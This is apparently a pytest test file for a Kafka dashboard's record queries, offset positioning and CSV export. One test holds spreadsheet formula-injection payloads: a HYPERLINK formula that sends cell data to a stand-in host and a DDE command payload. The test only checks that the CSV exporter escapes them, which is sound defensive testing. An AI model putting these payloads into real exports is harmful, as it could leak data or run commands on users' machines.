"""Queries of records, where reading begins, and records as text."""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest

from minikafka.core.client.consumer.fetched import ConsumerRecord
from minikafka.page.dashboard.records.decoder import Decoder
from minikafka.page.dashboard.records.decoding import AUTO
from minikafka.page.dashboard.records.new_record import parse_new_record
from minikafka.page.dashboard.records.places import (
    LogBounds,
    first_offsets,
    in_order,
    positions,
    share,
)
from minikafka.page.dashboard.records.query import (
    LONGEST_WAIT_MS,
    MOST_RECORDS,
    ReadQuery,
    Wanted,
    parse_query,
)
from minikafka.page.dashboard.records.rows import (
    CSV_COLUMNS,
    csv_line,
    csv_row,
    record_facts,
    shown,
)

DECODER = Decoder("t", AUTO, AUTO, None)


def record(
    offset: int,
    value: bytes | None = b"v",
    partition: int = 0,
    timestamp: int = 0,
    headers: tuple[tuple[str, bytes | None], ...] = (),
) -> ConsumerRecord:
    return ConsumerRecord("t", partition, offset, timestamp, b"k", value, headers, 0)


@pytest.mark.mission("GLASS-26")
def test_a_query_is_bounded() -> None:
    least = parse_query({"topic": "t"})
    assert least == ReadQuery("t", limit=100)
    words = {
        "topic": "t",
        "partition": "3",
        "from": "last:7",
        "limit": "100000",
        "wait": "600000",
        "contains": "é",
        "uncommitted": "1",
        "next": "",
    }
    assert parse_query(words) == ReadQuery(
        "t",
        partition=3,
        start="last",
        number=7,
        limit=7,
        wanted=Wanted("é"),
        wait_ms=LONGEST_WAIT_MS,
        uncommitted=True,
    )
    assert parse_query({**words, "from": "earliest"}).limit == MOST_RECORDS
    assert parse_query({"topic": "t", "next": "0:17,1:5"}).positions == {0: 17, 1: 5}
    assert parse_query({"topic": "t", "full": "1", "limit": "9"}).limit == 1


@pytest.mark.parametrize(
    ("words", "name"),
    [
        ({}, "topic"),
        ({"topic": "a/b"}, "topic"),
        ({"topic": "t", "from": "last"}, "from"),
        ({"topic": "t", "from": "offset:-1"}, "from"),
        ({"topic": "t", "from": "time:" + "9" * 30}, "from"),
        ({"topic": "t", "partition": "x"}, "partition"),
        ({"topic": "t", "limit": "-1"}, "limit"),
        ({"topic": "t", "limit": "²"}, "limit"),
        ({"topic": "t", "next": "0"}, "next"),
    ],
)
def test_wrong_parameters_are_named(words: dict[str, str], name: str) -> None:
    with pytest.raises(ValueError, match=f"^{name} needs"):
        parse_query(words)


@pytest.mark.mission("GLASS-26")
@pytest.mark.parametrize(
    ("words", "offsets"),
    [
        ({"from": "earliest"}, {0: 5, 1: 0}),
        ({"from": "latest"}, {0: 100, 1: 10}),
        ({"from": "last:20"}, {0: 100, 1: 10}),  # on from there, after the newest
        ({"from": "offset:3"}, {0: 5, 1: 3}),
        ({"from": "offset:1000"}, {0: 100, 1: 10}),
        ({"from": "time:9"}, {0: 50, 1: 10}),
        ({"next": "0:70", "from": "latest"}, {0: 70, 1: 10}),
        ({"next": "0:2,1:99,7:7"}, {0: 5, 1: 10}),
    ],
)
def test_reading_begins_within_the_log(words: dict[str, str], offsets: dict[int, int]) -> None:
    logs = {0: LogBounds(5, 100, 50), 1: LogBounds(0, 10, None)}
    query = parse_query({"topic": "t", **words})
    assert positions(query, logs, first_offsets(query, logs)) == offsets


def test_partitions_take_turns() -> None:
    assert share(33, {}, [0, 1, 2]) == [0, 1, 2]
    assert share(33, {0: 33}, [0, 1, 2]) == [1, 2]
    assert share(33, {0: 33, 1: 33, 2: 33}, [0, 1, 2]) == [0, 1, 2]
    assert share(1, {0: 1}, [0, 1, 2]) == [1, 2]
    assert share(1, {0: 9}, []) == []


@pytest.mark.mission("GLASS-26")
def test_records_of_all_partitions_come_by_time_and_keep_their_order() -> None:
    rows = [record(0, timestamp=5), record(1, timestamp=1), record(7, partition=1, timestamp=3)]
    assert [(row.partition, row.offset) for row in in_order(rows)] == [(1, 7), (0, 0), (0, 1)]


@pytest.mark.mission("GLASS-26")
def test_bytes_that_are_no_text_are_base64_and_long_ones_are_cut() -> None:
    assert shown(None, 4) == (None, "null", False)
    assert shown(b"", 4) == ("", "utf8", False)
    assert shown(b"\xff\x00", 4) == (base64.b64encode(b"\xff\x00").decode(), "base64", False)
    assert shown(b"abcde", 4) == ("abcd", "utf8", True)
    assert shown("abcé".encode(), 4) == ("abc", "utf8", True)  # not in the middle of a character
    assert shown(b"abc\xff", 4) == (base64.b64encode(b"abc\xff").decode(), "base64", False)
    assert shown(b"\xffabcd", 4).encoding == "base64"
    facts = record_facts(
        record(3, b"x" * 10, headers=(("a", b"1"), ("b", b"\xff"), ("c", None))), DECODER, 4
    )
    assert facts["value"] == "xxxx"
    assert facts["value_size"] == 10
    assert facts["truncated"]
    assert facts["headers"] == [["a", "1"], ["b", "/w==", "base64"], ["c", None]]


@pytest.mark.mission("GLASS-26")
def test_a_shown_record_can_be_written_again() -> None:
    before = record(3, None, headers=(("a", b"1"), ("b", b"\xff"), ("c", None)))
    facts = record_facts(before, DECODER, 100)
    new = parse_new_record(
        {"topic": "t", **{name: facts[name] for name in ("partition", "key", "value", "headers")}}
    )
    assert new == ("t", 0, before.key, None, before.headers, 1)


def test_csv_has_a_row_for_each_record() -> None:
    nasty = record(3, b'a,"b"\nc\r', headers=(("h", b"1"),))
    text = (
        csv_line(CSV_COLUMNS)
        + csv_row(nasty, DECODER, 100)
        + csv_row(record(4, None), DECODER, 100)
    )
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(row["offset"], row["value"], row["value_encoding"]) for row in rows] == [
        ("3", 'a,"b"\nc\r', "text"),
        ("4", "", "null"),
    ]
    assert json.loads(rows[0]["headers"]) == [["h", "1"]]


def test_a_carriage_return_does_not_break_a_row() -> None:
    text = csv_row(record(3, b"a\rb"), DECODER, 100)
    ((_, offset, _, _, value, *_),) = csv.reader(io.StringIO(text, newline=""))
    assert (offset, value) == ("3", "a\rb")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/"&A1)', '\'=HYPERLINK("http://evil.example/"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-", "'-"),
        *((number, number) for number in ("-5", "+49", "-1.5e-3")),
        ("a=1", "a=1"),
    ],
)
def test_a_spreadsheet_runs_no_record(value: str, cell: str) -> None:
    text = csv_row(record(3, value.encode()), DECODER, 100)
    (row,) = csv.reader(io.StringIO(text, newline=""))
    assert row[4] == cell


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        ({"topic": None}, "topic needs"),
        ({"colour": 1}, "no field colour"),
        ({"partition": True}, "partition needs"),
        ({"count": 0}, "count needs"),
        ({"count": 10**6}, "count needs"),
        ({"encoding": "utf16"}, "encoding needs"),
        ({"value": 5}, "value needs a text"),
        ({"value": "é", "encoding": "base64"}, "value is not base64"),
        ({"key": "\ud800"}, "key is not utf8"),
        ({"headers": {"a": "b"}}, "headers needs"),
        ({"headers": [["a"]]}, "headers needs"),
    ],
)
def test_a_wrong_record_is_refused_with_a_sentence(
    change: dict[str, object], sentence: str
) -> None:
    with pytest.raises(ValueError, match=sentence):
        parse_new_record({"topic": "t", "value": "v", **change})
